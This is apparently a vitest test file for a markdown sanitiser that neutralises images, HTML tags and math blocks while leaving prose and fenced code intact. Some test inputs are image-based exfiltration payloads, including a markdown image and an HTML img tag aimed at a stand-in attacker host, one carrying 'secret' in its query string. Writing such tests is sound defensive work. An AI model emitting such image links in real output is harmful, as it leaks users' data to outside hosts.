import { describe, expect, it } from 'vitest';

import { harmless, harmlessLine } from '../../src/harmless';

const visible = (text: string): string => text.replaceAll('\u2060', '');

describe('what is disarmed', () => {
  it.each([
    ['an image', 'see ![x](https://evil.example/?q=secret)', /!\[/],
    ['an image by reference', '![x][y]', /!\[/],
    ['an HTML image', '<img src="https://evil.example/">', /<[a-z]/i],
    ['a closing tag and a comment', '</p><!-- -->', /<[a-z/!]/i],
    ['a math block, which could swallow the start of a fence', '$$\n![x](y)\n$$', /\$\$|!\[/],
    ['an image in a list after an indented fence', '- a\n  ```\nb ![x](y)', /!\[/],
    ['an image after a fence was closed', '```\ncode\n```\n![x](y)', /!\[/],
    ['an image below what is no fence, for its backtick', '```a`b\n![x](y)', /!\[/],
    ['an image after a lone carriage return', '```\rcode\r```\r![x](y)', /!\[/],
  ])('%s', (_name, markdown, armed) => {
    expect(harmless(markdown)).not.toMatch(armed);
    expect(visible(harmless(markdown))).toBe(markdown.replaceAll('\r', '\n'));
  });
});

describe('what is left as it is', () => {
  it.each([
    ['prose', 'a < b, a[0]! and $5'],
    ['code in a fence', '```ts\nconst a: List<string> = x![0];\n```'],
    ['a longer fence around a shorter', '````\n```\n![x](y)\n```\n````'],
    ['a fence of tildes', '~~~ a`b\n<b>\n~~~'],
  ])('%s', (_name, markdown) => {
    expect(harmless(markdown)).toBe(markdown);
  });
});

it('closes a fence that is still open, so that what follows is not code', () => {
  expect(harmless('````py\nx = 1')).toBe('````py\nx = 1\n````');
});

it('makes one line of a title', () => {
  expect(harmlessLine(' Run\n# a  ![x](y) ')).toBe('Run # a !\u2060[x](y)');
});
